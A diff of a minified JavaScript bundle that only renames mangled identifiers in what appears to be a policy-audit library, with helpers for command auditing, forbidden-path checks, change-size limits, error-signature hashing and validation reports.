-" ").slice(0,YI)}function Do(n){const e=n.trim();if(e.startsWith(au)){const t=VI(e.slice(au.length));return t===""?void 0:
-`${qI}${QI(t)}`}return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function pF(n){return n.flatMap(e=>{const t=e.
-trim(),s=t.startsWith(au)?Do(t):t;return s?[s]:[]})}function QI(n){let e=2166136261;for(let t=0;t<n.length;t+=1)e=Math.imul(
-e^n.charCodeAt(t),16777619);return(e>>>0).toString(16).padStart(8,"0")}function XI(n){const e=t1(n),t=Do(n);return t===void 0?
-e:{...e,matches:s=>Do(s)===t||e.matches(s)}}function e1(n,e){return e.some(XI(n).matches)}function t1(n){const e=n.lastIndexOf(
-"/");if(n.startsWith("/")&&e>0){const t=n.slice(1,e),s=n.slice(e+1);return n1(t,s)?s1(t,s,n):xo([n])}return!n.startsWith(
-"/")&&n.includes("|")?xo(n.split("|").map(t=>t.trim())):xo([n])}function n1(n,e){try{return new RegExp(n,e),!0}catch{return!1}}
-function s1(n,e,t){const s=As.translateRegExp(n),r=gm(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),
-multiline:e.includes("m"),dotAll:e.includes("s")});return"error"in r?{...xo([t]),unsupported:r.error}:{matches:i=>r.matches(
-i)}}function xo(n){const e=n.filter(t=>t!=="").map(t=>t.toLowerCase());return{matches:t=>e.some(s=>t.toLowerCase().includes(
-s))}}function r1(n,e={files:wo.blast_radius.hard_cap_files,lines:wo.blast_radius.hard_cap_lines}){Vn({change:n,caps:e},{
-change:sg,caps:sg});const{files:t,maxFiles:s}=n,r=yy(t,s,n,e);return{severity:r,message:wy(r,n,s,e)}}function i1(n,e=[]){
-if(Vn({path:n,forbiddenPaths:e},{path:Xs,forbiddenPaths:H.YOg(Xs)}),la(n)!==void 0)return"always";if(fy(n))return"audit_\
+" ").slice(0,c1)}function xo(n){const e=n.trim();if(e.startsWith(cu)){const t=u1(e.slice(cu.length));return t===""?void 0:
+`${a1}${l1(t)}`}return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function xF(n){return n.flatMap(e=>{const t=e.
+trim(),s=t.startsWith(cu)?xo(t):t;return s?[s]:[]})}function l1(n){let e=2166136261;for(let t=0;t<n.length;t+=1)e=Math.imul(
+e^n.charCodeAt(t),16777619);return(e>>>0).toString(16).padStart(8,"0")}function d1(n){const e=f1(n),t=xo(n);return t===void 0?
+e:{...e,matches:s=>xo(s)===t||e.matches(s)}}function B1(n,e){return e.some(d1(n).matches)}function f1(n){const e=n.lastIndexOf(
+"/");if(n.startsWith("/")&&e>0){const t=n.slice(1,e),s=n.slice(e+1);return h1(t,s)?p1(t,s,n):Oo([n])}return!n.startsWith(
+"/")&&n.includes("|")?Oo(n.split("|").map(t=>t.trim())):Oo([n])}function h1(n,e){try{return new RegExp(n,e),!0}catch{return!1}}
+function p1(n,e,t){const s=Ss.translateRegExp(n),r=_m(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),
+multiline:e.includes("m"),dotAll:e.includes("s")});return"error"in r?{...Oo([t]),unsupported:r.error}:{matches:i=>r.matches(
+i)}}function Oo(n){const e=n.filter(t=>t!=="").map(t=>t.toLowerCase());return{matches:t=>e.some(s=>t.toLowerCase().includes(
+s))}}function m1(n,e={files:bo.blast_radius.hard_cap_files,lines:bo.blast_radius.hard_cap_lines}){Vn({change:n,caps:e},{
+change:cg,caps:cg});const{files:t,maxFiles:s}=n,r=vy(t,s,n,e);return{severity:r,message:ky(r,n,s,e)}}function g1(n,e=[]){
+if(Vn({path:n,forbiddenPaths:e},{path:Xs,forbiddenPaths:H.YOg(Xs)}),da(n)!==void 0)return"always";if(Cy(n))return"audit_\
 log";const t=Dr({forbidden_paths:[...e]}).constraints,s=Bt(n)??n;return t.forbiddenPaths.some(r=>sn(s,r))?"declared":null}
-function o1(n){return Zs(n)}function a1(n){return Vn({asset:n},{asset:tg}),Ks(n)}function c1(n){return ms(cu(n))??null}function u1(n){
-return Sb(cu(n)).map(uu)}function l1(n,e,t={}){const s={capsule:y1,events:H.YOg(H.L5J()),thresholds:w1};Vn({capsule:n,events:e,
-thresholds:t},s);const r=cu({type:"Capsule",...n}),i=e.filter(h=>tg.safeParse(h).success),o=i.map(h=>({value:h,log:""})),
-c=e.length-i.length,l={...wo.a2a,...t},B=[...Td(r,Nb(o,!1)(r),l),...c>0?[d1(r,c)]:[]],d=(0,at.pn)(B);return{eligible:d===
-"eligible",eligibility:d,reasons:B.map(uu)}}function d1({id:n},e){const t=`the successes of the Capsule \`${n}\``,s=`a l\
+function C1(n){return Ws(n)}function y1(n){return Vn({asset:n},{asset:og}),gs(n)}function w1(n){return ms(uu(n))??null}function b1(n){
+return jb(uu(n)).map(lu)}function _1(n,e,t={}){const s={capsule:T1,events:H.YOg(H.L5J()),thresholds:I1};Vn({capsule:n,events:e,
+thresholds:t},s);const r=uu({type:"Capsule",...n}),i=e.filter(h=>og.safeParse(h).success),o=i.map(h=>({value:h,log:""})),
+c=e.length-i.length,l={...bo.a2a,...t},B=[...Fd(r,Wb(o,!1)(r),l),...c>0?[E1(r,c)]:[]],d=(0,at.pn)(B);return{eligible:d===
+"eligible",eligibility:d,reasons:B.map(lu)}}function E1({id:n},e){const t=`the successes of the Capsule \`${n}\``,s=`a l\
 og in which ${e} ${e===1?"entry is":"entries are"} not an object`;return(0,at.gk)("claim-not-checked",{claim:t,why:s},{severity:"\
-error"})}function B1(n,e){return Vn({pattern:n,signals:e},{pattern:Xs,signals:H.YOg(Xs)}),e1(n,e)}function f1(n){return Vn(
-{signal:n},{signal:Xs}),Do(n)??null}function h1(n){const e=DI(n);if(e===void 0)return null;const{differences:t,hash:s,...r}=e,
-i=r.commands.map(o=>({...o}));return{...r,commands:i,valid:t.length===0,hashMatches:s!==null}}const p1=H.Ikc({geneId:H.YjP(),
+error"})}function v1(n,e){return Vn({pattern:n,signals:e},{pattern:Xs,signals:H.YOg(Xs)}),B1(n,e)}function k1(n){return Vn(
+{signal:n},{signal:Xs}),xo(n)??null}function D1(n){const e=LI(n);if(e===void 0)return null;const{differences:t,hash:s,...r}=e,
+i=r.commands.map(o=>({...o}));return{...r,commands:i,valid:t.length===0,hashMatches:s!==null}}const x1=H.Ikc({geneId:H.YjP(),
 commands:H.YOg(H.Ikc({command:H.YjP(),ok:H.zMY(),stdout:H.YjP().optional(),stderr:H.YjP().optional(),durationMs:H.aig().
-optional()})).readonly(),startedAt:H.aig(),finishedAt:H.aig()}),m1=b1(p1,n=>{const e=n.commands.map(({command:t,ok:s,stdout:r="",
-stderr:i="",durationMs:o=0})=>({result:{command:t,ok:s,stdout:Xm(r),stderr:Xm(i)},duration_ms:o}));return Qm({...Vm({commands:e.
+optional()})).readonly(),startedAt:H.aig(),finishedAt:H.aig()}),O1=$1(x1,n=>{const e=n.commands.map(({command:t,ok:s,stdout:r="",
+stderr:i="",durationMs:o=0})=>({result:{command:t,ok:s,stdout:rg(r),stderr:rg(i)},duration_ms:o}));return sg({...ng({commands:e.
 map(({result:t,duration_ms:s})=>({...t,duration_ms:s})),startedAt:new Date(n.startedAt).toISOString(),finishedAt:new Date(
-n.finishedAt).toISOString()}),id:`vr_${n.finishedAt}`,gene_id:n.geneId,...eg(process),commands:e.map(({result:t})=>t)})});
-async function g1(n,e="evolver"){Vn({command:n,profile:e},{command:Xs,profile:H.k5n(Ws.J)});const t=Wr.by({policy:{...wo,
-profile:e},tree:void 0,changed:new Set,platform:gT(process.platform)}),{verdict:s,findings:r}=await _I(await t.command(n),
-t);return{verdict:s,findings:r.map(uu)}}const Xs=H.YjP(),tg=H.g1P(H.YjP(),H.L5J()),C1=H._H3({type:H.k5n(Ws.Dd)}),y1=H._H3(
-{type:H.euz("Capsule").optional()}),ng=H.Whr().nonnegative(),sg=H._H3({files:ng,lines:ng}),Oo=H.aig().optional(),w1=H._H3(
-{min_score:Oo,max_files:Oo,max_lines:Oo,min_success_streak:Oo});function Vn(n,e){const[t]=H.Ikc(e).safeParse(n).error?.issues??
-[];if(t!==void 0)throw new TypeError(`${t.path.join(".")}: ${t.message}`)}function b1(n,e){return t=>(Vn({run:t},{run:n}),
-e(t))}function cu(n){Vn({asset:n},{asset:C1});const e=n;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",value:e,
-pointer:[],locate:()=>({path:"",line:1,column:1})}}function uu(n){return{rule:n.rule,severity:n.severity,...(0,at.q0)(n)}}
-var _1=ln.Ht,E1=ln.aB,v1=ln.x,k1=ln.dj,D1=ln._U,x1=ln.Ae,O1=ln.lq,A1=ln.hI,S1=ln.q,T1=ln.Gj,I1=ln.qW,$1=ln.zD;export{_1 as auditCommand,
-E1 as blastSeverity,v1 as broadcastEligibility,k1 as canonicalJson,D1 as checkSchema,x1 as contentHash,O1 as errorSignature,
-A1 as forbiddenPath,S1 as readValidationReport,T1 as signalMatches,I1 as validationReport,$1 as verifyContentHash};
+n.finishedAt).toISOString()}),id:`vr_${n.finishedAt}`,gene_id:n.geneId,...ig(process),commands:e.map(({result:t})=>t)})});
+async function A1(n,e="evolver"){Vn({command:n,profile:e},{command:Xs,profile:H.k5n(Ks.J)});const t=Wr.by({policy:{...bo,
+profile:e},tree:void 0,changed:new Set,platform:AT(process.platform)}),{verdict:s,findings:r}=await RI(await t.command(n),
+t);return{verdict:s,findings:r.map(lu)}}const Xs=H.YjP(),og=H.g1P(H.YjP(),H.L5J()),S1=H._H3({type:H.k5n(Ks.Dd)}),T1=H._H3(
+{type:H.euz("Capsule").optional()}),ag=H.Whr().nonnegative(),cg=H._H3({files:ag,lines:ag}),Ao=H.aig().optional(),I1=H._H3(
+{min_score:Ao,max_files:Ao,max_lines:Ao,min_success_streak:Ao});function Vn(n,e){const[t]=H.Ikc(e).safeParse(n).error?.issues??
+[];if(t!==void 0)throw new TypeError(`${t.path.join(".")}: ${t.message}`)}function $1(n,e){return t=>(Vn({run:t},{run:n}),
+e(t))}function uu(n){Vn({asset:n},{asset:S1});const e=n;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",value:e,
+pointer:[],locate:()=>({path:"",line:1,column:1})}}function lu(n){return{rule:n.rule,severity:n.severity,...(0,at.q0)(n)}}
+var R1=ln.Ht,N1=ln.aB,F1=ln.x,P1=ln.dj,L1=ln._U,j1=ln.Ae,M1=ln.lq,G1=ln.hI,H1=ln.q,z1=ln.Gj,U1=ln.qW,J1=ln.zD;export{R1 as auditCommand,
+N1 as blastSeverity,F1 as broadcastEligibility,P1 as canonicalJson,L1 as checkSchema,j1 as contentHash,M1 as errorSignature,
+G1 as forbiddenPath,H1 as readValidationReport,z1 as signalMatches,U1 as validationReport,J1 as verifyContentHash};
